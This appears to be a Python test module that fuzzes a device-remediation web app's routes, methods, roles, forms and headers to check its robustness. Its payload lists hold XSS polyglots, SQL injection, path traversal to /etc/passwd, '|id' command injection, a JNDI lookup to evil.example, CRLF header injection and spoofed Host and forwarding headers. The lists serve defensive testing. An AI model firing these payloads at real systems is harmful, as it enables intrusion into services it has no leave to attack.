"""What the fuzzer sends: every route and method, as every role, with right and wrong values in every place that takes one."""

from __future__ import annotations

import random
import re
from dataclasses import dataclass, field
from datetime import timedelta

from werkzeug.datastructures import MultiDict
from werkzeug.routing import Rule
from werkzeug.test import TestResponse

from remediation.domain.device import ManagedKey, Person
from remediation.services.end_sessions import BECAUSE
from remediation.web import handles
from tests.people import MIA
from tests.proven import asked
from tests.web.conftest import ORIGIN, Browser, Web
from tests.web.scenes import BROWSER, NOAH
from tests.web.test_return_targets import INSERTS, NAMES, VECTORS

MARK = "zq"  # the beginning of every element and attribute that is ours to find again
POLYGLOTS = (
    *(
        "\"'><zq1 zq2=3>",
        "\" zq4=5 onfocus=zq() x='",
        "' zq4=5 onmouseover=zq() x=\"",
        '"--></title></textarea></script></style><zq6>',
    ),
    *('"><svg/onload=zq()>', "javascript:zq()", "{{7*7}}{% raw %}'\"><zq7>", "%(zq)s %s %n <zq8>", "\u202e<zq9>\u2066", "<ZQ1>"),
    *("&lt;zq&gt;", '"><script>zq()</script>'),
)
ODD = (
    *(
        "",
        " ",
        "\x00",
        "\x00<zq1>",
        "a" * 300,
        "é" * 200,
        "\ud7ff\uffff",
        "' OR 1=1 --",
        "%",
        "_",
        "\\",
        "..",
        "../../etc/passwd",
        "[]",
    ),
    *(
        "-1",
        "0",
        "1e309",
        "9" * 40,
        "null",
        "true",
        "None",
        "NaN",
        "\r\nSet-Cookie: zq=1",
        "\r\n\r\n<zq1>",
        "💥" * 50,
        "a\u0301" * 100,
    ),
    *("${jndi:ldap://evil.example}", "|id", "`id`", ";", "\u2028", "K7M-2QX", "k7m 2qx", "mia", "berger", "mia berger", "\ufeff"),
)
RIGHT = ("ios", "android", "macos", "windows", "start", "enrollment", "remediation", "helpdesk", "other", "1", "en", "de", "xx")
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "zq", "")
HEADERS = {
    "User-Agent": ("Mozilla/5.0 (iPhone)", "Mozilla/5.0 (Linux; Android 14; wv)", *POLYGLOTS),
    "Accept-Language": ("de", "en;q=0.1", "*", ",,,;q=x", "x" * 300, *POLYGLOTS),
    "Origin": ("null", ORIGIN, "https://evil.example", "http://localhost:8000.evil.example", "x"),
    "Sec-Fetch-Site": ("same-origin", "cross-site", "none", "<zq1>"),
    "Referer": ("https://evil.example/<zq1>", "/"),
    "X-Forwarded-Host": ("evil.example",),
    "X-Forwarded-Proto": ("https", "javascript"),
    "X-Original-URL": ("/helpdesk", "//evil.example"),
    "X-HTTP-Method-Override": ("DELETE",),
    "Forwarded": ("host=evil.example",),
    "If-None-Match": ("*", '"x"', "W/<zq1>"),
    "Range": ("bytes=0-1", "bytes=9-1", "x"),
    "Host": ("localhost:9999", "evil.example", "localhost@evil.example", "", "[::1]", "localhost\\.evil.example", "a" * 300),
    "Cookie": ("remediation=x", "remediation=.x.y", "language=<zq1>; remediation=", "=;=;", "remediation=" + "A" * 3000),
    "Content-Type": ("application/json", "multipart/form-data; boundary=x", "multipart/form-data", "text/plain", "x/<zq1>"),
    "Content-Length": ("-1", "x", "99999999"),
}
HANNA = Person("hanna", "Hanna Roth", "hanna.roth@contoso.example")
ADAM = Person("adam", "Adam Kowal", "adam.kowal@contoso.example")
ROLES = ("nobody", "mia", "noah", "hanna", "adam")
STAFF = {"/helpdesk": "hanna", "/onboarding": "adam"}
SIGNED_IN_FOR = 50  # requests, after which everybody signs in again: requests sign people out as well
FIELDS = ("csrf_token", "device", "platform", "entrance", "lang", "possession", "oid", "id")


@dataclass
class Sent:
    role: str
    method: str
    path: str
    rule: str | None
    query: list[tuple[str, str]] = field(default_factory=list)
    form: list[tuple[str, str]] | None = None
    headers: dict[str, str] = field(default_factory=dict)


class Fuzzer:
    def __init__(self, web: Web, chance: random.Random, scene: str) -> None:
        self.web, self.chance, self._sent = web, chance, 0
        self.scene = web.scene(scene)
        if not self.scene.token:
            self.scene.token = "no-message-was-sent-in-this-scene"  # noqa: S105
        self.rules = list(web.app.url_map.iter_rules())
        pairs = [(rule, method) for rule in self.rules for method in sorted(rule.methods or ())]
        telling = [
            (rule, method) for rule, method in pairs if method == "POST" or (method == "GET" and rule.endpoint == "helpdesk.search")
        ]
        self._pairs = [*pairs, *telling, *telling]  # what acts, and what shows what was asked, more often
        journey = web.store.journey(self.scene.id)
        assert journey is not None
        offered: list[ManagedKey | str] = [*(one.key for one in journey.managed), *(one.device_id for one in journey.directory)]
        with web.app.test_request_context():
            self._handles = [handles.make(self.scene.id, BROWSER, one) for one in offered]
        self._known = (
            self.scene.token,
            asked(web.store, web.clock(), "ws2"),
            MIA.oid,
            journey.case_code,
            web.style_name(),
            "sign_in_down",
            self.scene.id,
            *self._handles,
        )
        self._browsers: dict[str, Browser] = {}
        self._tokens: dict[str, str] = {}
        self._states: list[str] = []

    def request(self) -> Sent:
        if self._sent % SIGNED_IN_FOR == 0:
            self._everybody_signs_in()
        number, self._sent = self._sent, self._sent + 1
        chance = self.chance
        # Each pair in turn first, so that none is left to luck; then as it comes.
        rule, method = (
            self._pairs[number % len(self._pairs)] if chance.random() < 0.7 else (chance.choice(self.rules), chance.choice(METHODS))
        )
        path = self._path(rule) if chance.random() < 0.95 else "/" + self._text()
        likely = "mia" if method == "POST" else "nobody"
        likely = next((who for start, who in STAFF.items() if rule.rule.startswith(start)), likely)
        sent = Sent(likely if chance.random() < 0.5 else chance.choice(ROLES), method, path, rule.rule)
        sent.query = [(chance.choice(NAMES), self._text()) for _ in range(chance.choice((0, 0, 1, 1, 2, 4)))]
        if rule.endpoint == "helpdesk.search" and chance.random() < 0.7:
            sent.query.append(("q", self._text() if chance.random() < 0.5 else chance.choice(POLYGLOTS)))
        if rule.endpoint == "sign_in.signed_in" and chance.random() < 0.1 and self._states:
            sent.query = [("state", chance.choice(self._states)), (chance.choice(("code", "error", "iss")), self._text())]
        if method not in ("GET", "HEAD", "OPTIONS"):
            sent.form = [(chance.choice(FIELDS), self._text()) for _ in range(chance.choice((0, 1, 1, 2, 8)))]
            if chance.random() < 0.85:
                sent.form.insert(0, ("csrf_token", self._tokens[sent.role]))
            if chance.random() < 0.5:
                sent.form.append(("platform", chance.choice(RIGHT[:4])))
            if rule.endpoint == "helpdesk.end_sessions" and chance.random() < 0.8:
                sent.form += [("because", chance.choice(BECAUSE)), ("sure", "on")]
            if chance.random() < 0.5 and self._handles:
                sent.form.append(("device", chance.choice(self._handles)))
        for _ in range(chance.choice((0, 0, 0, 1, 1, 3))):
            name = chance.choice(list(HEADERS))
            sent.headers[name] = chance.choice(HEADERS[name])
        return sent

    def send(self, sent: Sent) -> TestResponse:
        if self.chance.random() < 0.02:
            self.web.clock.ahead += timedelta(seconds=self.chance.choice((1, 5, 60, 400)))
        content_type = sent.headers.get("Content-Type")
        headers = {name: value for name, value in sent.headers.items() if name not in ("Content-Type", "Content-Length")}
        raw = {"PATH_INFO": sent.path.encode("utf-8", "surrogatepass").decode("latin-1")}
        if "Content-Length" in sent.headers and sent.form is None:
            raw["CONTENT_LENGTH"] = sent.headers["Content-Length"]
        if sent.headers.get("Host") == "":
            raw["HTTP_HOST"] = ""
        answer = self._browsers[sent.role].open(
            "/",
            method=sent.method,
            query_string=MultiDict(sent.query),
            data=MultiDict(sent.form) if sent.form is not None else None,
            content_type=content_type,
            headers={
                name: value.encode("utf-8", "replace").decode("latin-1").replace("\r", "").replace("\n", "")
                for name, value in headers.items()
            },
            environ_overrides=raw,
        )
        state = re.search(r"[?&]state=([^&]+)", answer.headers.get("Location", ""))
        if state is not None:
            self._states = [*self._states[-20:], state.group(1)]
        return answer

    def _everybody_signs_in(self) -> None:
        who: dict[str, tuple[Person, str, tuple[str, ...]]] = {
            "mia": (MIA, BROWSER, ()),
            "noah": (NOAH, "n", ()),
            "hanna": (HANNA, "h", ("Helpdesk.Read", "Helpdesk.Act")),
            "adam": (ADAM, "a", ("Admin", "<zq1>")),
        }
        self._browsers = {"nobody": self.web.browser()}
        self._browsers |= {
            role: self.web.signed_in(person, browser=browser, roles=roles) for role, (person, browser, roles) in who.items()
        }
        self._tokens = {role: browser.csrf() for role, browser in self._browsers.items()}

    def _path(self, rule: Rule) -> str:
        return re.sub(r"<[^>]+>", lambda _: self._text(in_path=True), rule.rule)

    def _text(self, *, in_path: bool = False) -> str:
        chance = self.chance
        kind = chance.random()
        if kind < (0.4 if in_path else 0.25):
            return chance.choice(self._known)
        if kind < 0.45:
            return chance.choice(RIGHT)
        text = chance.choice(chance.choice((POLYGLOTS, ODD, VECTORS)))
        while chance.random() < 0.3:
            at = chance.randrange(len(text) + 1)
            text = (text[:at] + chance.choice((*INSERTS, *POLYGLOTS)) + text[at:])[:2000]
        return text
